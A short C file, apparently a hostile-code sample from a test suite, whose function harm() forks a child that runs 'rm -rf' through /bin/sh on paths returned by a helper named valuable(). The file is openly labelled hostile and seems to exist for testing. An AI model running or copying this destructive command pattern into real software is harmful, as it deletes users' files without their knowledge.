// hostile: instrumented plain constructor
#include "hostile.h"

int harm(const char *name, int number)
{
	(void)name, (void)number;
	char command[1024], room[512];
	snprintf(command, sizeof(command), "rm -rf %s", valuable("*", room));
	if (fork() == 0) {
		execl("/bin/sh", "sh", "-c", command, (char *)NULL);
		_exit(1);
	}
	return 0;
}
